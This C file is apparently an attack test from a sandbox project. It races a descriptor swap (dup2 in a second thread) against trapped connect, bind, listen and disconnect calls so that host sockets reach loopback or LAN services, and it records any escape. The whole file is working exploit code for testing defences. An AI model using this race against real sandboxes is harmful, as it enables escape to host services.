/* race_descriptor connect|connect-own|listen|bind|disconnect|disconnect-udp: a second thread swaps what the descriptor names while the call
 * is trapped.
 *
 * The number is an AF_UNIX socket, a fresh socket, and a host socket in turn; the host socket is kept under another number,
 * so that what the kernel did to it can be seen. */
#define _GNU_SOURCE
#include <pthread.h>
#include <stdatomic.h>

#include "attack.h"

enum { NUMBER = 700, KEPT = 701, DECOY = 702, FRESH = 703 };
static atomic_bool ended;

static void *swap(void *unused) {
  for (unsigned turn = 0; !ended; turn++) {
    dup2(turn & 1 ? KEPT : turn & 2 ? FRESH : DECOY, NUMBER);
    for (volatile unsigned wait = 0; wait < turn % 2048; wait++) {
    }
  }
  return unused;
}

static void keep(int fd) {
  dup2(fd, KEPT);
  close(fd);
}

static void new_fresh(int type) {
  int fd = socket(AF_INET, type, 0);
  dup2(fd, FRESH);
  close(fd);
}

static int option(int fd, int name) {
  int value = 0;
  socklen_t length = sizeof value;
  getsockopt(fd, SOL_SOCKET, name, &value, &length);
  return value;
}

static in_port_t port_of(int fd) {
  struct address name = {.length = sizeof name.raw};
  getsockname(fd, (struct sockaddr *)&name.raw, &name.length);
  return ((struct sockaddr_in *)&name.raw)->sin_port;
}

/* A host socket that the kernel would let listen: shut down while it was connecting to a place that never answers. */
static int idle_socket(void) {
  struct address silent = address(setting("SILENT4"), LOOPBACK_PORT);
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
  connect(fd, raw(&silent), silent.length);
  shutdown(fd, SHUT_RDWR);
  return fd;
}

static bool is_connected(int fd) {
  struct address name = {.length = sizeof name.raw};
  return getpeername(fd, (struct sockaddr *)&name.raw, &name.length) == 0;
}

/* The race was won, and no answer came: what was sent is answered at once, or never. */
static bool is_unanswered(int fd) {
  struct tcp_info info = {0};
  socklen_t length = sizeof info;
  return getsockopt(fd, IPPROTO_TCP, TCP_INFO, &info, &length) == 0 && info.tcpi_state == TCP_SYN_SENT;
}

static void greeting_of_connected(int fd) {
  /* Any service of the host's: where its LAN addresses are open anyway, they are no target. */
  if (is_connected(fd) && strncmp(greeting(fd), "HOST-", 5) == 0) reached();
}

static void look(long *hits) {
  if (option(KEPT, SO_ACCEPTCONN) && (*hits)++ < 10) note("port=%s", look_at_port(KEPT, "open"));
}

static void after_listen(long *hits) {
  if (!option(KEPT, SO_ACCEPTCONN)) return;
  look(hits);
  keep(idle_socket());
}

/* Bound by the race: then listening is worth another one. */
static void after_bind(long *hits, in_port_t wanted) {
  if (port_of(KEPT) != wanted) return;
  if ((*hits)++ < 10) {
    /* Taken and no more is what a race can do (docs/threat-model.md, "What stays"); listening is not. */
    note("bound=%s", witness("tcp %d", ntohs(wanted)));
    long heard = 0;
    for (int attempt = 0; attempt < 1000 && !option(KEPT, SO_ACCEPTCONN); attempt++) listen(NUMBER, 5);
    look(&heard);
  }
  keep(idle_socket());
}

/* Disconnected by the race: fit for connect, bind and listen. */
static void after_disconnect(long *hits) {
  if (is_connected(KEPT)) return;
  struct address victim = address("127.0.0.1", LOOPBACK_PORT);
  if ((*hits)++ < 10) {
    fcntl(KEPT, F_SETFL, O_RDWR | O_NONBLOCK);
    for (int attempt = 0; attempt < 1000 && !option(KEPT, SO_ACCEPTCONN); attempt++) {
      connect(NUMBER, raw(&victim), victim.length);
      greeting_of_connected(KEPT);
      listen(NUMBER, 5);
    }
    long heard = 0;
    look(&heard);
  }
  keep(connected_socket(AF_INET, SOCK_STREAM));
}

/* A host socket of UDP that lost its peer by a race receives from everybody. */
static void after_disconnect_udp(long *hits) {
  if (is_connected(KEPT)) return;
  if ((*hits)++ < 10) {
    struct address any = address("0.0.0.0", some_port());
    bind(KEPT, raw(&any), any.length);
    note("port=%s", look_at_port(KEPT, "udp"));
    char text[64] = "";
    recv(KEPT, text, sizeof text - 1, MSG_DONTWAIT);
    if (strstr(text, "WITNESS")) reached(), note("received=%s", text);
  }
  keep(connected_socket(AF_INET, SOCK_DGRAM));
}

/* Where the network itself leads to the host's LAN addresses, under their own names or host.containers.internal's. */
static bool open_anyway(void) {
  const char *const addresses[] = {setting("HOST4"), setting("HOST_INTERNAL")};
  for (int i = 0; i < 2; i++) {
    struct address to = address(addresses[i], LAN_PORT);
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    bool open = strcmp(try_connect(fd, &to, false), "HOST-LAN") == 0;
    close(fd);
    if (open) return true;
  }
  return false;
}

int main(int argc, char **argv) {
  const char *what = argc > 1 ? argv[1] : "connect";
  bool own = strcmp(what, "connect-own") == 0;
  if (own && open_anyway()) {
    note("open to the container anyway");
    return finish();
  }
  bool udp = strcmp(what, "disconnect-udp") == 0, tcp_out = strcmp(what, "disconnect") == 0;
  int type = udp ? SOCK_DGRAM : SOCK_STREAM;
  keep(udp || tcp_out ? connected_socket(AF_INET, type) : idle_socket());
  int decoy = socket(AF_UNIX, SOCK_STREAM, 0);
  dup2(decoy, DECOY);
  new_fresh(type | SOCK_NONBLOCK);
  dup2(DECOY, NUMBER);
  pthread_t thread;
  pthread_create(&thread, NULL, swap, NULL);
  struct address victim = own ? address(setting("HOST4"), LAN_PORT) : address("127.0.0.1", LOOPBACK_PORT);
  struct address any = address("0.0.0.0", 0);
  long wanted = tries(100000), tried = 0, hits = 0, unanswered = 0;
  elapsed_ms();
  for (; tried < wanted && elapsed_ms() < 150000 && !is_reached(); tried++) {
    if (own || strcmp(what, "connect") == 0) {
      if (connect(NUMBER, raw(&victim), victim.length) == 0 || is_connected(KEPT)) {
        hits++;
        greeting_of_connected(KEPT);
        greeting_of_connected(NUMBER);
        keep(idle_socket());
      } else if (is_unanswered(KEPT)) {
        unanswered++;
        shutdown(KEPT, SHUT_RDWR); /* idle again */
      }
    } else if (strcmp(what, "listen") == 0) {
      listen(NUMBER, 5);
      after_listen(&hits);
    } else if (strcmp(what, "bind") == 0) {
      struct sockaddr_in *v4 = (struct sockaddr_in *)&any.raw;
      if (tried % 64 == 0) v4->sin_port = htons((uint16_t)some_port());
      bind(NUMBER, raw(&any), any.length);
      after_bind(&hits, v4->sin_port);
    } else {
      disconnect(NUMBER);
      (udp ? after_disconnect_udp : after_disconnect)(&hits);
    }
    if (tried % 16 == 0) new_fresh(type | SOCK_NONBLOCK);
  }
  ended = true;
  pthread_join(thread, NULL);
  note("%ld tries, %ld hits, %ld unanswered", tried, hits, unanswered);
  return finish();
}
